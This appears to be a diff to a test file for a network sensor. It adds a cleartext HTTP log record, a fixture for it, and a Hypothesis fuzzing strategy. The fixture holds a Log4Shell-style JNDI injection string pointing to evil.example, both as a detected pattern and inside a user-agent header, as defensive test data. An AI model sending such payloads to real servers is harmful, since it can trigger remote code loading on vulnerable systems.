@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 from sensor.flow.conn import Connection
 from sensor.health.counters import Levels, Running, Totals
 from sensor.health.measures import CaptureLoss, HealthNotice, Measure, Meter, OwnStats, Stats
+from sensor.http.cleartext import Cleartext
 from sensor.http.transaction import BodyFile, Digests, Header, HttpRequest, HttpResponse, HttpTransaction, NotKept
 from sensor.logs.sinks.memory import MemorySink
 from sensor.logs.writer import LogWriter
@@ -77,6 +78,24 @@ EXCHANGE = OcspExchange(
     REPLY_FILE.fuid,
     TS + S,
 )
+CLEARTEXT = Cleartext(
+    FLOW,
+    TS,
+    1,
+    b"GET",
+    b"shop.example",
+    b"/a%20b?token=1",
+    b"curl/8",
+    200,
+    None,
+    "text/html",
+    ("header:basic", "query:token"),
+    (b"id", b"\xff"),
+    (b"id",),
+    ("jndi:ldap://evil.example/a",),
+    (b"user-agent: ${jndi:ldap://evil.example/a}",),
+    ("host",),
+)
 LEAK = Leak(
     TS,
     FLOW,
@@ -138,6 +157,8 @@ def records(log: str, /, *observations: Any, **settings: Any) -> list[dict[str, 
                 writer.weird(observation)
             case Stats() | CaptureLoss() | OwnStats() | HealthNotice():
                 writer.health([observation])
+            case Cleartext():
+                writer.cleartext(observation)
     writer.close()
     return sink.records(log)
 
@@ -277,6 +298,31 @@ def transactions(draw: st.DrawFn) -> HttpTransaction:
         maybe(hostile_bytes),
     )
     return HttpTransaction(draw(flows()), draw(times), draw(counts), draw(maybe(request)), draw(maybe(response)))
+
+
+@st.composite
+def cleartexts(draw: st.DrawFn) -> Cleartext:
+    names = st.lists(hostile_bytes, max_size=3).map(tuple)
+    words = st.lists(hostile_text, max_size=3).map(tuple)
+    maybe_bytes = maybe(hostile_bytes)
+    return Cleartext(
+        draw(flows()),
+        draw(times),
+        draw(counts),
+        draw(maybe_bytes),
+        draw(maybe_bytes),
+        draw(maybe_bytes),
+        draw(maybe_bytes),
+        draw(maybe(st.integers(0, 999))),
+        draw(maybe(hostile_text)),
+        draw(maybe(hostile_text)),
+        draw(words),
+        draw(names),
+        draw(names),
+        draw(words),
+        draw(names),
+        draw(words),
+    )
 
 
 serials = st.binary(min_size=1, max_size=20).map(lambda octets: octets.hex().upper())
